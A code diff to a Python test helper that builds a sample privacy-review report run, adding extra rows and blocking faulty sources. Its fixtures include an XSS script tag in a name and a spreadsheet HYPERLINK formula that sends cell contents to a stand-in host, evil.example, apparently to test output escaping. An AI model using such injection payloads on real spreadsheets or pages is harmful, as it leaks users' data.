@@ -45,13 +45,16 @@ HOSTILE_NAME = '<script>console.error("xss")</script>Eve'
 FORMULA_LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"Avaa")'
 
 
-def small_review_run(*, hostile: bool = False, lang: str = "fi"):  # type: ignore[no-untyped-def]
+def small_review_run(  # type: ignore[no-untyped-def]
+    *, hostile: bool = False, lang: str = "fi", extra_rows=(), faulty=frozenset()
+):
     """A ReviewRun over a few hand-made traces under the kohonen example policy."""
     from datetime import date
 
     from policies.engine import evaluate
     from policies.examples import example_path
     from policies.law import load_statutory_rules
+    from policies.safety import block_sources_with_errors
     from policies.schema import load_policy
     from policies.testing import make_traces
     from reports.view import ReviewRun, SourceSummary
@@ -131,16 +134,18 @@ def small_review_run(*, hostile: bool = False, lang: str = "fi"):  # type: ignor
                 "locator": '{"file": "tilaukset.xlsx", "row": 8}',
             }
         )
+    rows.extend(extra_rows)
     traces = make_traces(rows)
     today = date(2026, 11, 1)
     evaluation = evaluate(traces, {"asiakasrekisteri": policy}, law, today)
+    decisions = block_sources_with_errors(evaluation.decisions, faulty)
     return ReviewRun(
         business="Tmi <b>Testi</b>",
         registers={"asiakasrekisteri": policy.name},
         today=today,
         lang=lang,
         traces=traces,
-        decisions=evaluation.decisions,
+        decisions=decisions,
         findings=evaluation.findings,
         sources=[
             SourceSummary("tilaukset", "spreadsheet", "tilaukset.xlsx", "asiakasrekisteri", 3),
